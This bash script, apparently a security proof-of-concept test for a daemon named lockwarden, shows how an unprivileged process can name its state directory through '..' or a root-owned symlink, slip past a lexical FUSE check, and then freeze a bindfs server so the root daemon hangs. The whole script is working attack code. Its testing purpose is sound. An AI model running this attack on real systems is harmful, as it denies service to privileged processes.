#!/bin/bash
# Attack: a gateway-looking process of nobody's names OPENCLAW_STATE_DIR with ".." so that the
# lexical FUSE check (path_on_fuse) does not see the FUSE mount that chase_dir's physical walk
# then enters. The FUSE server is stopped: the root daemon hangs in a lookup, never ready.
# VARIANT=symlink: the same through a root-owned symlink (/var/lock -> /run/lock, 1777).
LW=${LW:-/work/main/build/check/src/lockwarden}
VARIANT=${VARIANT:-dotdot}
T=$(mktemp -d /tmp/atk.XXXX); chmod 755 $T
if [ "$VARIANT" = symlink ]; then B=$(mktemp -d /run/lock/atk.XXXX); chmod 755 $B; else B=$T; fi
mkdir -p $T/app $T/own $B/src/state/agents/main/sessions $B/mnt
echo '// entry' > $T/app/openclaw.mjs
chown -R nobody:nogroup $T/own $B/src/state
echo '{}' > $T/lw.json
bindfs -o attr_timeout=0,entry_timeout=0 $B/src $B/mnt || exit 1
srv=$(pgrep -n -f "^bindfs .*$B/src $B/mnt\$")
if [ "$VARIANT" = symlink ]; then SD=/var/lock/${B#/run/lock/}/mnt/state; else SD=$T/own/../mnt/state; fi
echo "state dir named: $SD"
setpriv --reuid=nobody --regid=nogroup --clear-groups env -i OPENCLAW_STATE_DIR=$SD \
   bash -c "exec -a $T/app/openclaw.mjs bash -c 'sleep 30; :' gateway" &
gw=$!
sleep 0.5
kill -STOP $srv
env -u OPENCLAW_STATE_DIR timeout 10 $LW run --config $T/lw.json --socket $T/sock --events - --leak-grace-ms 200 > $T/events 2>$T/err &
d=$!
sleep 5
echo "--- events after 5 s:"; cut -c1-300 $T/events | head
echo "--- stderr:"; head -5 $T/err
echo "--- daemon state:"; ps -o pid,stat,wchan:30,cmd -p $(pgrep -P $d) 2>/dev/null || ps -o pid,stat,wchan:30,cmd -p $d
for p in $(pgrep -f "^$LW"); do cat /proc/$p/stack 2>/dev/null | head -8; done
kill -CONT $srv; wait $d; echo "daemon rc=$?"
kill $gw 2>/dev/null; fusermount -u $B/mnt; rm -rf $T $B
